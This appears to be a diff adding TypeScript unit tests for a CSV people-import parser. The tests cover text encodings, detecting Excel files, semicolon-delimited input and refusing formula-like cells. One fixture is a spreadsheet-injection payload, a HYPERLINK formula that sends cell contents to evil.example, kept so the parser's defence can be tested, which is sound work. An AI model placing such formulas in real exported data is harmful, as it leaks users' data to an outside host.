@@ -128,4 +128,124 @@ describe('parsePeopleCsv', () => {
       'The file has 20,001 people; import at most 20,000 at a time by splitting it into several files',
     );
   });
+
+  describe('the file as uploaded', () => {
+    const utf8 = (text: string) => Buffer.from(text, 'utf8');
+
+    it('reads UTF-8 with and without a byte-order mark alike', () => {
+      const text = `${HEADER}\nzoë@x.org,Zoë Ñúñez,Wards,,\n`;
+      const plain = parsePeopleCsv(utf8(text));
+      const withBom = parsePeopleCsv(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(text)]));
+      expect(plain.errors).toEqual([]);
+      expect(withBom).toEqual(plain);
+      expect(withBom.rows[0]).toMatchObject({ line: 2, email: 'zoë@x.org', name: 'Zoë Ñúñez' });
+    });
+
+    it("reads Excel's Unicode Text: UTF-16 with a byte-order mark, separated by tabs", () => {
+      const text = 'email\tname\tunit\nzoe@x.org\tZoë\tWards, North\n';
+      const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
+      const parsed = parsePeopleCsv(le);
+      expect(parsed.errors).toEqual([]);
+      expect(parsed.rows).toEqual([
+        expect.objectContaining({ line: 2, name: 'Zoë', unitName: 'Wards, North' }),
+      ]);
+      const be = Buffer.from(le);
+      be.swap16();
+      expect(parsePeopleCsv(be).rows).toEqual(parsed.rows);
+    });
+
+    it('names the first line that is not UTF-8 and says how to save the file', () => {
+      const latin1 = Buffer.concat([
+        utf8(`${HEADER}\na@x.org,Ann,,,\n`),
+        Buffer.from('zoe@x.org,Zo\xeb,,,\nb@x.org,Bo,,,\nc@x.org,Ch\xe9,,,\n', 'latin1'),
+      ]);
+      const parsed = parsePeopleCsv(latin1);
+      expect(parsed.rows).toEqual([]);
+      expect(parsed.errors).toEqual([
+        {
+          line: 3,
+          message:
+            'the file is not UTF-8 text: this line (and 1 other line) has characters in another encoding, such as Windows-1252; in Excel choose Save As and the type "CSV UTF-8 (Comma delimited)", then import that file',
+        },
+      ]);
+    });
+
+    it('recognises an Excel workbook and binary data', () => {
+      const xlsx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(50, 7)]);
+      expect(parsePeopleCsv(xlsx).errors).toEqual([
+        {
+          line: 1,
+          message: expect.stringMatching(/^this is an Excel workbook \(\.xlsx\), not a CSV file/),
+        },
+      ]);
+      const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
+      expect(parsePeopleCsv(xls).errors[0]?.message).toMatch(/Excel 97-2003 workbook/);
+      expect(parsePeopleCsv(Buffer.from([0x65, 0x00, 0x6d, 0x00])).errors[0]?.message).toMatch(
+        /^the file holds binary data/,
+      );
+    });
+  });
+
+  it('reads a file separated by semicolons, with several roles in quotes', () => {
+    const parsed = parsePeopleCsv(
+      'email;name;unit;roles;manager_email\nada@x.org;"Lovelace; Ada";Wards, North;"leader;coach";\nbo@x.org;Bo;;;ada@x.org\n',
+    );
+    expect(parsed.errors).toEqual([]);
+    expect(parsed.rows).toEqual([
+      {
+        line: 2,
+        email: 'ada@x.org',
+        name: 'Lovelace; Ada',
+        unitName: 'Wards, North',
+        roles: ['leader', 'coach'],
+        managerEmail: null,
+      },
+      {
+        line: 3,
+        email: 'bo@x.org',
+        name: 'Bo',
+        unitName: null,
+        roles: [],
+        managerEmail: 'ada@x.org',
+      },
+    ]);
+    expect(parsePeopleCsv('email;name\nada@x.org;Ada;Extra\n').errors).toEqual([
+      {
+        line: 2,
+        message:
+          'has 3 fields but the header has 2: put a value that contains a semicolon in double quotes',
+      },
+    ]);
+  });
+
+  it('refuses cells that a spreadsheet would run as a formula, each with its line', () => {
+    const csv = [
+      HEADER,
+      'a@x.org,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Wards,,', // 2
+      'b@x.org,B,+Surgery,,', // 3
+      'c@x.org,-C,,,', // 4
+      '@d@x.org,D,,,', // 5
+      'e@x.org,E,,,=1+2', // 6
+      'f@x.org,"Fay-Smith, =not at start",Unit - East,,', // 7: fine
+    ].join('\n');
+    const parsed = parsePeopleCsv(csv);
+    expect(parsed.errors).toEqual([
+      {
+        line: 2,
+        message:
+          'name "=HYPERLINK("http://evil.example/?"&A1,"C…" starts with "=", which a spreadsheet would run as a formula: remove the "=" or write the value differently',
+      },
+      { line: 3, message: expect.stringMatching(/^unit "\+Surgery" starts with "\+"/) },
+      { line: 4, message: expect.stringMatching(/^name "-C" starts with "-"/) },
+      { line: 5, message: expect.stringMatching(/^email "@d@x.org" starts with "@"/) },
+      { line: 6, message: expect.stringMatching(/^manager_email "=1\+2" starts with "="/) },
+    ]);
+    expect(parsed.rows.map((r) => r.email)).toEqual([
+      'a@x.org',
+      'b@x.org',
+      'c@x.org',
+      'e@x.org',
+      'f@x.org',
+    ]);
+  });
 });
